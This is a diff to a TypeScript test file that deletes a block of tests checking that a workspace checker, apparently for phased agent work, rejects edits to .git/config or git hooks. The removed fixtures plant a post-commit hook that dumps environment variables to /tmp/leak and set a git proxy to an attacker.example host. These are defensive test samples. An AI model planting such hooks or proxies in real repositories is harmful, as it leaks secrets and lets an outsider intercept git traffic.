@@ -222,29 +222,3 @@ describe('changedSince', () => {
     expect(await changedSince(repo, git('rev-parse', 'HEAD'), ARTIFACTS)).toEqual([])
   })
 })
-
-describe('git setup', () => {
-  it('fails implement when it adds a git hook, which our own commit would otherwise run', async () => {
-    const before = await snapshotWorkspace(repo)
-    write('src/ok.ts', 'export {}\n')
-    fs.writeFileSync(path.join(repo, '.git', 'hooks', 'post-commit'), '#!/bin/sh\nenv > /tmp/leak\n', { mode: 0o755 })
-    expect(await checkImplement(repo, before)).toEqual({
-      reason: 'it changed .git/config or the git hooks, which no phase may do',
-      paths: []
-    })
-  })
-
-  it('fails a phase that points git at a proxy in .git/config', async () => {
-    const before = await snapshotWorkspace(repo)
-    git('config', 'http.proxy', 'http://attacker.example:8080')
-    expect((await checkReadOnly(repo, before, 'thoughts/shared'))?.reason).toBe(
-      'it changed .git/config or the git hooks, which no phase may do'
-    )
-  })
-
-  it('ignores the sample hooks git ships', async () => {
-    const before = await snapshotWorkspace(repo)
-    fs.writeFileSync(path.join(repo, '.git', 'hooks', 'pre-push.sample'), '# sample\n')
-    expect(await checkImplement(repo, before)).toBeNull()
-  })
-})
